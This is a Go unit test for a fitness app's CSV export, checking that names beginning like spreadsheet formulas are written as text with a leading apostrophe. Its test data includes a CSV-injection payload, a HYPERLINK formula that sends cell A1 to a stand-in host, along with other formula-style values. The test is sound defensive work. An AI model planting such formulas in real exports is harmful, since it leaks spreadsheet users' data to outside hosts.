package store

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/spinecoach/spinecoach/routine"
)

// spreadsheetFormula tells a cell a spreadsheet would evaluate: one that
// begins with = + - @, a tab or a carriage return (an apostrophe before
// it makes it text).
func spreadsheetFormula(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// Names from a prescription or an import may begin like a formula; the
// CSV export writes them so a spreadsheet shows them as text, and read
// back they are the names with an apostrophe before them.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	s := newStore(t)
	hostile := []string{`=HYPERLINK("http://x/?"&A1,"ok")`, "+SUM(1,2)", "-2+3", "@cmd"}
	sess := testSession(time.Date(2025, 3, 4, 9, 30, 0, 0, time.UTC), StatusCompleted)
	sess.Routine = hostile[0]
	sess.Note = hostile[3]
	mustNil(t, s.PutSession(sess))
	for i, name := range hostile[1:] {
		set := testSet(sess.ID, i, 2)
		set.Exercise = name
		mustNil(t, s.RecordSet(set))
	}
	// A build-up's row carries its activity's name and sentence.
	mustNil(t, s.RecordDecision(Decision{SessionID: sess.ID, At: sess.StartedAt, Rule: routine.RuleBuildUp,
		ExerciseID: "walk", Exercise: hostile[0], Minutes: 12, Reason: hostile[1] + " stayed green yesterday: 12 minutes today."}))
	var buf bytes.Buffer
	mustNil(t, s.ExportCSV(&buf))
	rows, err := csv.NewReader(&buf).ReadAll()
	mustNil(t, err)
	if len(rows) != 5 {
		t.Fatalf("%d rows, want a header, a build-up and 3 sets:\n%s", len(rows), buf.String())
	}
	seen := map[string]bool{}
	for r, row := range rows {
		for c, cell := range row {
			if spreadsheetFormula(cell) && cell != "-1" { // -1: an unknown level, a number
				t.Errorf("row %d, %s: %q would run as a formula", r, rows[0][c], cell)
			}
			seen[cell] = true
		}
	}
	for _, name := range hostile[:3] {
		if !seen["'"+name] {
			t.Errorf("the name %q is not in the export as text ('%s)", name, name)
		}
	}
}
